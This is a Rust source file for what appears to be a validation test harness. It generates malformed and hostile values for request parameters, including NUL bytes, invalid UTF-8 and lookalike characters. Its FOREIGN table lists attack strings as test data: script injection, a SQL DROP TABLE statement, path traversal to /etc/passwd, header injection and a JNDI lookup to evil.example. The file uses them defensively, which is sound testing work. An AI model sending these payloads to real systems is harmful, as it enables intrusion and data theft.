//! What can be wrong with one value, whatever it is for.

/// One way of hurting a parameter.
#[derive(Debug, Clone)]
pub(super) struct Hurt {
    pub(super) name: String,
    pub(super) what: What,
    /// The values that are sent under the parameter's name, percent-encoded where that is needed.
    pub(super) wire: Vec<Vec<u8>>,
    /// The value as a reader sees it, where there is exactly one.
    pub(super) text: Option<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum What {
    Missing,
    Empty,
    Doubled,
    /// The bytes are not UTF-8.
    NotUtf8,
    Nul,
    /// One value that nobody has registered, issued or specified.
    Foreign,
    /// The body is larger than any body may be.
    TooLarge,
}

/// More than any single value may have, and less than a whole request may.
const LONG: usize = 20_000;
/// More than a request may have.
pub(super) const TOO_LARGE: usize = 70_000;

/// Text of every kind that no check lets through by accident, with a name for the table.
pub(super) const FOREIGN: [(&str, &str); 39] = [
    ("a word", "no-such-thing"),
    ("a space", " "),
    ("a JSON object", r#"{"a":1}"#),
    ("a JSON array", r#"["a"]"#),
    ("a JSON text", r#""a""#),
    ("a negative number", "-1"),
    ("a fraction", "1.5"),
    ("an exponent", "1e3"),
    ("a hexadecimal number", "0x10"),
    ("a number with a sign", "+5"),
    ("a number beyond 64 bits", "99999999999999999999999"),
    ("the largest number", "18446744073709551615"),
    ("Arabic digits", "\u{661}\u{662}"),
    ("full-width digits", "\u{ff11}\u{ff12}"),
    ("true", "true"),
    ("null", "null"),
    ("a control character", "a\u{1}b"),
    ("a new line", "a\r\nSet-Cookie: a=b"),
    ("a tab", "a\tb"),
    ("DEL", "a\u{7f}b"),
    ("a C1 control", "a\u{85}b"),
    ("a bidi override", "a\u{202e}b"),
    ("bidi isolates", "\u{2066}a\u{2069}\u{2067}"),
    ("zero width", "a\u{200b}\u{200d}\u{2060}b"),
    ("a byte order mark", "\u{feff}a"),
    ("non-characters", "\u{fdd0}\u{fffe}\u{10ffff}"),
    ("private use", "\u{e000}\u{f8ff}\u{100000}"),
    ("a tag sequence", "a\u{e0001}\u{e0041}"),
    ("a replacement character", "a\u{fffd}"),
    ("line separators", "a\u{2028}b\u{2029}"),
    ("an astral character", "\u{1f9ff}"),
    ("mark-up", "\"><script>alert(1)</script>"),
    ("a quote and a statement", "'; DROP TABLE client; --"),
    ("a path upwards", "../../../etc/passwd"),
    ("an address", "https://evil.example/cb"),
    ("a script address", "javascript:alert(1)"),
    ("a template", "${jndi:ldap://evil.example}{{7*7}}%s%n"),
    ("an escape of an escape", "%00%0a%2500"),
    ("a backslash", "\\\\evil.example\\a"),
];

/// Bytes that are no UTF-8, raw and percent-encoded.
const NOT_UTF8: [(&str, &[u8]); 9] = [
    ("bytes of no character", b"%ff%fe"),
    ("raw bytes of no character", b"\xff\xfe"),
    ("half a character", b"a%c3"),
    ("raw half a character", b"a\xe2\x82"),
    ("an overlong slash", b"%c0%af"),
    ("an overlong NUL", b"%c0%80"),
    ("a lone surrogate", b"%ed%a0%80"),
    ("beyond Unicode", b"%f4%90%80%80"),
    ("half a character beside a replacement character", b"%ef%bf%bd%ff"),
];

const NUL: [(&str, &[u8]); 3] = [("NUL", b"%00"), ("NUL in the middle", b"a%00b"), ("a raw NUL", b"a\0b")];

fn encode(text: &str) -> Vec<u8> {
    form_urlencoded::byte_serialize(text.as_bytes())
        .collect::<String>()
        .into_bytes()
}

fn escape(byte: u8) -> String {
    format!("%{byte:02x}")
}

fn foreign(name: impl Into<String>, text: &str) -> Hurt {
    Hurt {
        name: name.into(),
        what: What::Foreign,
        wire: vec![encode(text)],
        text: Some(text.to_owned()),
    }
}

/// Every hurt of a parameter whose good value is `good`; `limit` is the longest value that it takes, in bytes.
pub(super) fn hurts(good: &str, limit: Option<usize>, in_body: bool) -> Vec<Hurt> {
    let hurt = |name: &str, what, wire: Vec<Vec<u8>>| Hurt {
        name: name.to_owned(),
        what,
        wire,
        text: None,
    };
    let mut all = vec![
        hurt("missing", What::Missing, Vec::new()),
        hurt("empty", What::Empty, vec![Vec::new()]),
        hurt("doubled", What::Doubled, vec![encode(good), encode(good)]),
        hurt(
            "doubled, the other first",
            What::Doubled,
            vec![b"other".to_vec(), encode(good)],
        ),
        hurt(
            "doubled, the other last",
            What::Doubled,
            vec![encode(good), b"other".to_vec()],
        ),
        hurt(
            "doubled, one of them empty",
            What::Doubled,
            vec![encode(good), Vec::new()],
        ),
    ];
    all.extend(NOT_UTF8.map(|(name, bytes)| hurt(name, What::NotUtf8, vec![bytes.to_vec()])));
    all.extend(NUL.map(|(name, bytes)| hurt(name, What::Nul, vec![bytes.to_vec()])));
    all.extend(FOREIGN.map(|(name, text)| foreign(name, text)));
    all.push(foreign("a flood of marks", &format!("a{}", "\u{301}".repeat(500))));
    all.push(foreign(format!("{LONG} bytes"), &"a".repeat(LONG)));
    for bytes in limit.into_iter().flat_map(|limit| [limit, limit + 1]) {
        all.push(foreign(format!("{bytes} bytes"), &"a".repeat(bytes)));
    }
    if in_body {
        all.push(hurt("too large a body", What::TooLarge, vec![vec![b'a'; TOO_LARGE]]));
    }
    all.extend(twins(good).into_iter().map(|(name, text)| foreign(name, &text)));
    all
}

/// What looks like the good value, or is it to a careless reader.
fn twins(good: &str) -> Vec<(&'static str, String)> {
    let swap = |from: char, to: char| good.replacen(from, &to.to_string(), 1);
    let flipped: String = good
        .chars()
        .map(|c| match c.is_ascii_lowercase() {
            true => c.to_ascii_uppercase(),
            false => c.to_ascii_lowercase(),
        })
        .collect();
    let wide: String = good
        .chars()
        .map(|c| match c {
            '!'..='~' => char::from_u32(c as u32 + 0xfee0).unwrap(),
            other => other,
        })
        .collect();
    let middle = good.len() / 2;
    let split = good
        .char_indices()
        .map(|(at, _)| at)
        .find(|at| *at >= middle)
        .unwrap_or(0);
    let (head, tail) = good.split_at(split);
    let twins = [
        ("twin in Cyrillic a", swap('a', '\u{430}')),
        ("twin in Cyrillic e", swap('e', '\u{435}')),
        ("twin in Greek o", swap('o', '\u{3bf}')),
        ("twin in full width", wide),
        ("twin in other case", flipped),
        ("twin with an accent", format!("{good}\u{301}")),
        ("twin with a long s", swap('s', '\u{17f}')),
        ("twin with a space before", format!(" {good}")),
        ("twin with a space after", format!("{good} ")),
        ("twin with a new line after", format!("{good}\n")),
        ("twin with zero width inside", format!("{head}\u{200b}{tail}")),
        ("twin with a soft hyphen", format!("{head}\u{ad}{tail}")),
        (
            "twin encoded twice",
            encode(good).iter().copied().map(escape).collect::<Vec<_>>().concat(),
        ),
        ("twin cut short", head.to_owned()),
        ("twin and more", format!("{good}x")),
    ];
    twins
        .into_iter()
        .filter(|(_, twin)| twin != good && !twin.is_empty())
        .collect()
}
